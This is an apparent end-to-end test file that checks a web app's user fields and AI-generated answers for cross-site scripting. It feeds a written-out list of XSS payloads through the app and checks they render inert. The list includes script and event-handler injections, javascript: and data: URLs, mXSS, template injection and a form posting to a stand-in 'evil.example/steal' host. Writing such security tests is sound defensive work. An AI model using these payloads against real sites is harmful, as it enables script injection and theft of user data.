import type { IncomingHttpHeaders } from 'node:http';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launchBrowser, newPage } from './browser';
import { startTestServer, stopTestServers, type TestServer } from './server';

/**
 * XSS: a payload set — script tags, event handlers, javascript: and data: URLs, SVG, markdown
 * link and image tricks, mXSS, remote images and styles — typed into every user field (the
 * validation inputs, the interview and Val chat messages, the challenge answer, the contact form,
 * the feasibility hero, the purchase inputs, the development sign-in and the test checkout) and
 * returned by the model as its answers (AI_PROVIDER=openai against the loopback chat server of
 * bff/test/chatServer.ts). Everything must render inert: no dialog from a payload, the window
 * flag the payloads set stays unset, no element carries a payload's handler or script URL, and
 * no request leaves the loopback host (no remote image, style or form). Each step also checks
 * that the payload's marker text IS on the page, so the checks look at rendered payloads.
 */

jest.setTimeout(180_000);

const ADMIN_PASSWORD = 'xss-e2e-admin-password';
const USER_MARK = 'XSS-USER-MARKER';
const AI_MARK = 'XSS-AI-MARKER';
const EVIL = 'evil.example';

/** Every payload sets window.__xss (and most also alert) if it ever runs. */
const PAYLOADS = [
  `<script>window.__xss='script';alert('xss-script')</script>`,
  `<img src=x onerror="window.__xss='img';alert('xss-img')">`,
  `<svg onload="window.__xss='svg';alert('xss-svg')"><script>window.__xss='svg-script'</script></svg>`,
  `<a href="javascript:window.__xss='a-href';alert('xss-a')">click me</a>`,
  `[markdown link](javascript:window.__xss='md-link';alert('xss-md'))`,
  `[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3BlbmVyLl9feHNzPTE8L3NjcmlwdD4=)`,
  `![tracking pixel](https://${EVIL}/pixel.png)`,
  `[![image link](https://${EVIL}/img.png)](javascript:window.__xss='img-link')`,
  `<iframe src="javascript:window.__xss='iframe';alert('xss-iframe')"></iframe>`,
  `"><img src=x onerror=window.__xss='attr-break'>`,
  `<details open ontoggle="window.__xss='details';alert('xss-details')">x</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__xss='mxss'>`,
  `<style>@import 'https://${EVIL}/x.css';</style><link rel=stylesheet href="https://${EVIL}/y.css">`,
  `<object data="javascript:window.__xss='object'"></object><embed src="javascript:window.__xss='embed'">`,
  `<form action="https://${EVIL}/steal"><button formaction="javascript:window.__xss='form'">Go</button></form>`,
  `javascript:window.__xss='bare'`,
  `![x](x" onerror="window.__xss='md-attr')`,
  `<a href="https://${EVIL}/phish" onclick="window.__xss='onclick'">normal link</a>`,
  `{{constructor.constructor('window.__xss="template"')()}}`,
];
/** A compact payload for short fields (100-200 characters). */
const SHORT = `<img src=x onerror=window.__xss=1;alert(1)><svg onload=window.__xss=2> ${USER_MARK}`;
const userText = (max: number) => {
  const full = `${USER_MARK} ${PAYLOADS.join(' ')}`;
  return full.length <= max ? full : max >= SHORT.length ? SHORT : USER_MARK.slice(0, max);
};
/**
 * Plain advice around the payloads: Val's check removes what it cannot stand behind (a payload's
 * link among them), and a section that would lose more than a third of itself is written again
 * from the sheet; with this the model's answer stays on the page and its payloads are rendered.
 */
const PLAIN = 'abcdefghijklmnopqrstuvwxyzabcdefghijklmn'
  .split('')
  .map((c) => `- Write down what customer ${c.toUpperCase()} says about the problem, in their own words.`);
const AI_TEXT = `## Market Opportunity ${AI_MARK}\n\n${PLAIN.join('\n')}\n${PAYLOADS.map((p) => `- ${p}`).join('\n')}\n\n## Risks\n\n${PAYLOADS.slice(0, 6).join('\n\n')}\n`;

interface ChatServerLike {
  baseURL: string;
  reply(r: (req: { headers: IncomingHttpHeaders; body: { stream?: boolean; messages: Array<{ role: string; content: string }> } }) => unknown): void;
  close(): Promise<void>;
}
// The loopback OpenAI-compatible server of the BFF's tests (outside this project's rootDir, so required).
// eslint-disable-next-line @typescript-eslint/no-require-imports -- outside this project's rootDir (see the line above)
const { startChatServer } = require('../../bff/test/chatServer') as { startChatServer(): Promise<ChatServerLike> };

/** The model's answers: the payloads wherever text goes, in the JSON shapes the tasks ask for. */
function modelAnswer(req: { body: { stream?: boolean; messages: Array<{ role: string; content: string }> } }) {
  const all = req.body.messages.map((m) => m.content).join('\n');
  const p = (i: number) => PAYLOADS[i % PAYLOADS.length];
  let content = AI_TEXT;
  if (all.includes('{"customers": [')) {
    content = JSON.stringify({
      customers: [0, 1, 2].map((i) => ({
        id: `p${i}`,
        name: `Ana ${i} ${p(i)} ${AI_MARK}`,
        role: `Owner ${p(i + 3)}`,
        avatar: '<svg onload=1>',
        background: `${p(i + 6)} ${p(i + 9)}`,
      })),
    });
  } else if (all.includes('{"simulation": [')) {
    content = JSON.stringify({
      simulation: [1, 2, 3, 4, 5, 6].map((month) => ({
        month,
        title: `Month ${month} ${p(month)} ${AI_MARK}`,
        users: month * 40,
        wins: [p(month + 1), p(month + 2)],
        challenges: [p(month + 3), p(month + 4)],
        challenge: `${p(month + 5)} How will you respond?`,
      })),
    });
  }
  if (req.body.stream) return { type: 'stream', chunks: content.match(/[\s\S]{1,40}/g) ?? [content] };
  return { type: 'text', content };
}

/** Watches a page (and its popups) for anything a payload could do. */
function guard(context: BrowserContext, page: Page) {
  const dialogs: string[] = [];
  const remote: string[] = [];
  const popups: string[] = [];
  const watch = (p: Page) => {
    p.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.accept().catch(() => undefined);
    });
    p.on('request', (r) => {
      const host = new URL(r.url()).hostname;
      if (/^https?:/.test(r.url()) && host !== '127.0.0.1' && host !== 'localhost') remote.push(r.url());
    });
  };
  watch(page);
  context.on('page', (p) => {
    popups.push(p.url());
    watch(p);
  });
  return {
    dialogs,
    /** Fails if a payload ran or left an active element; `legit` are the spec's own alerts. */
    async audit(step: string, marks: string[], legit: string[] = []) {
      await page.waitForTimeout(400);
      const text = await page.evaluate(() => document.body.innerText);
      for (const m of marks) expect({ step, rendered: text.includes(m) }).toEqual({ step, rendered: true });
      const ran = await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss);
      const active = await page.evaluate(() => {
        const bad: string[] = [];
        const urlAttrs = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc', 'background', 'poster'];
        for (const el of Array.from(document.querySelectorAll('*'))) {
          for (const a of Array.from(el.attributes)) {
            const n = a.name.toLowerCase();
            if (n.startsWith('on') && /__xss|alert/.test(a.value)) bad.push(`${el.tagName.toLowerCase()} ${n}="${a.value.slice(0, 40)}"`);
            if (urlAttrs.includes(n) && /^\s*(javascript|vbscript|data:text\/html)/i.test(a.value))
              bad.push(`${el.tagName.toLowerCase()} ${n}="${a.value.slice(0, 40)}"`);
            if (n !== 'href' && urlAttrs.includes(n) && a.value.includes('evil.example'))
              bad.push(`${el.tagName.toLowerCase()} ${n}="${a.value.slice(0, 40)}"`);
          }
          if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'LINK'].includes(el.tagName) && /__xss|evil\.example/.test(el.outerHTML))
            bad.push(`<${el.tagName.toLowerCase()}> from a payload`);
        }
        return bad;
      });
      expect({ step, ran: ran ?? null, active, dialogs: dialogs.filter((d) => !legit.includes(d)), remote, popups }).toEqual({
        step,
        ran: null,
        active: [],
        dialogs: [],
        remote: [],
        popups: [],
      });
    },
  };
}

let browser: Browser;
let server: TestServer;
let chat: ChatServerLike;

beforeAll(async () => {
  chat = await startChatServer();
  chat.reply(modelAnswer);
  [browser, server] = await Promise.all([
    launchBrowser(),
    startTestServer({
      AI_PROVIDER: 'openai',
      OPENAI_API_KEY: 'sk-test',
      OPENAI_BASE_URL: chat.baseURL,
      AI_MAX_RETRIES: '0',
      AI_TIMEOUT_MS: '10000',
      ADMIN_PASSWORD,
      VALIDATE_RATE_LIMIT_PER_MINUTE: '100',
      SIMULATION_CHAT_RATE_LIMIT_PER_MINUTE: '100',
      SIMULATION_GENERATE_RATE_LIMIT_PER_MINUTE: '100',
      REPORT_POLL_MS: '100',
    }),
  ]);
});
afterAll(async () => {
  await browser?.close();
  await stopTestServers();
  await chat?.close();
});

describe('XSS payloads render inert', () => {
  it('step 1 to 3: validation inputs, interview and Val chat messages, the challenge answer, and every AI answer', async () => {
    const { page, context } = await newPage(browser);
    const g = guard(context, page);
    await page.goto(`${server.url}/`);
    const lab = page.locator('#validate [data-view="lab"]');
    await lab.locator('textarea[name="idea"]').fill(userText(4000));
    await lab.locator('input[name="targetCustomer"]').fill(userText(1000));
    await lab.locator('input[name="problemSolved"]').fill(userText(2000));
    await lab.getByRole('button', { name: 'Get AI Feedback!' }).click();
    await page.getByRole('heading', { name: "Val's Analysis is Ready!" }).waitFor({ timeout: 30_000 });
    await g.audit('validation feedback', [AI_MARK]);

    const sim = page.locator('#simulate');
    await sim.getByRole('button', { name: 'Simulate Customer Conversations' }).click();
    await sim.getByTestId('persona-card').first().waitFor({ timeout: 30_000 });
    await g.audit('personas', [AI_MARK]);

    await sim.getByTestId('persona-card').first().click();
    const interview = sim.getByTestId('interview-chat');
    await interview.getByTestId('persona-message').first().waitFor();
    await interview.getByPlaceholder('Ask about their pain points, budget and timeline...').fill(userText(2000));
    await interview.getByRole('button', { name: 'Send' }).click();
    await interview.getByTestId('founder-message').waitFor();
    await page.waitForFunction(() => document.querySelectorAll('#simulate [data-testid="persona-message"]').length >= 2);
    await g.audit('interview', [USER_MARK, AI_MARK]);
    await interview.getByRole('button', { name: 'Done' }).click();

    await sim.getByRole('button', { name: 'Generate Journey Simulation' }).click();
    await sim.getByTestId('month-card').first().waitFor({ timeout: 30_000 });
    await g.audit('simulation months', [AI_MARK]);

    const challenge = sim.getByTestId('month-challenge').first();
    await challenge.getByRole('textbox').fill(userText(4000));
    await challenge.getByRole('button', { name: "Get Val's Feedback" }).click();
    await challenge.getByTestId('month-feedback').waitFor({ timeout: 30_000 });
    await g.audit('challenge feedback', [AI_MARK]);

    const month = sim.getByTestId('month-card').first();
    await month.getByRole('button', { name: 'Chat with Val' }).click();
    const valChat = month.getByTestId('val-chat');
    await valChat.getByTestId('val-message').first().waitFor();
    await valChat.getByRole('textbox').fill(userText(2000));
    await valChat.getByRole('button', { name: 'Send' }).click();
    await page.waitForFunction(() => document.querySelectorAll('#simulate [data-testid="val-message"]').length >= 2, undefined, { timeout: 30_000 });
    await g.audit('Val chat', [USER_MARK, AI_MARK]);

    // Everything again from storage after a reload.
    await page.reload();
    await sim.getByTestId('month-card').first().waitFor();
    await g.audit('after a reload', [AI_MARK]);
    await context.close();
  });

  it('the contact form, and the stored message in the admin dashboard', async () => {
    const { page, context } = await newPage(browser);
    const g = guard(context, page);
    await page.goto(`${server.url}/about`);
    const form = page.getByTestId('contact-form');
    await form.getByLabel('Name').fill(userText(100));
    await form.getByLabel('Email').fill('xss@example.com');
    await form.getByLabel('Subject').fill(userText(200));
    await form.getByLabel('Message').fill(userText(5000));
    const sent = page.waitForResponse((r) => r.url().endsWith('/api/contact') && r.request().method() === 'POST');
    await form.getByTestId('contact-submit').click();
    expect((await sent).status()).toBe(201);
    await page.getByTestId('toast').getByText('Message Sent!').waitFor();
    await g.audit('contact form', []);

    await page.goto(`${server.url}/admin`);
    await page.getByPlaceholder('Enter admin password').fill(ADMIN_PASSWORD);
    await page.getByRole('button', { name: 'Login' }).click();
    await page.getByRole('tab', { name: 'Messages' }).click();
    await page.getByTestId('message').first().waitFor();
    await g.audit('admin messages', [USER_MARK]);
    await context.close();
  });

  it('the paid flow: hero inputs, development sign-in, test checkout (declined, then paid) and the report page', async () => {
    const { page, context } = await newPage(browser);
    const g = guard(context, page);
    await page.goto(`${server.url}/`);
    const hero = page.locator('#hero [data-view="hero"]');
    await hero.locator('textarea[name="target_market"]').fill(userText(100));
    await hero.locator('input[name="product_idea"]').fill(userText(200));
    await hero.getByRole('button', { name: 'Start Feasibility Study - $25' }).click();

    await page.waitForURL(/\/oidc\/interaction\//);
    // A bad email first: the server re-renders the form with what was typed.
    await page.locator('input[name="email"]').fill(`"><svg onload=window.__xss=1>`);
    await page.locator('input[name="name"]').fill(userText(100));
    await page.evaluate(() => document.querySelectorAll('form').forEach((f) => (f.noValidate = true)));
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForLoadState();
    expect(await page.locator('input[name="name"]').inputValue()).toContain(USER_MARK);
    await g.audit('sign-in page echoing a bad email', []);
    await page.locator('input[name="email"]').fill('xss-buyer@example.com');
    await page.locator('input[name="name"]').fill(userText(100));
    await page.getByRole('button', { name: 'Sign in' }).click();

    await page.waitForURL(/\/checkout\/test\/cs_test_/);
    await page.locator('input[name="number"]').fill('4000 0000 0000 0002');
    await page.locator('input[name="expiry"]').fill('12 / 34');
    await page.locator('input[name="cvc"]').fill('123');
    await page.locator('input[name="name"]').fill(userText(100));
    await page.getByRole('button', { name: /^Pay \$/ }).click();
    await page.waitForLoadState();
    expect(await page.locator('input[name="name"]').inputValue()).toContain(USER_MARK);
    await g.audit('test checkout echoing a declined card', []);
    await page.locator('input[name="number"]').fill('4242 4242 4242 4242');
    await page.locator('input[name="cvc"]').fill('123');
    await page.getByRole('button', { name: /^Pay \$/ }).click();

    await page.waitForURL(/\/report\/[\w-]{16,}$/, { timeout: 30_000 });
    await page.locator('[data-testid="report"][data-status="finished"]').waitFor({ timeout: 60_000 });
    for (const toggle of await page.locator('section[data-step] button[aria-expanded]').all()) await toggle.click();
    await g.audit('report page (inputs and every agent’s output)', [AI_MARK]);
    await context.close();
  });

  it('the purchase dialog inputs (the spec’s own alerts allowed)', async () => {
    const { page, context } = await newPage(browser);
    const g = guard(context, page);
    // Tapped as soon as it shows: a tap before the catalogue's code arrives is kept and replayed (shell/public/tapKeeper.js).
    await page.goto(`${server.url}/products`, { waitUntil: 'commit' });
    await page.locator('[data-testid="product-business-idea-evaluation"]').getByRole('button', { name: 'View details' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('button', { name: 'Get This Report' }).click();
    for (const box of await dialog.getByRole('textbox').all()) {
      const max = Number((await box.getAttribute('maxlength')) ?? 200);
      await box.fill(userText(max));
    }
    await g.audit('purchase inputs', []);
    await dialog.getByRole('button', { name: 'Proceed to Checkout' }).click();
    await page.waitForURL(/\/oidc\/interaction\//, { timeout: 15_000 });
    await g.audit('after proceeding to checkout', [], ["Thank you! Your Business Idea Evaluation will be processed. You'll be redirected to secure checkout."]);
    expect(g.dialogs).toEqual(["Thank you! Your Business Idea Evaluation will be processed. You'll be redirected to secure checkout."]);
    await context.close();
  });
});
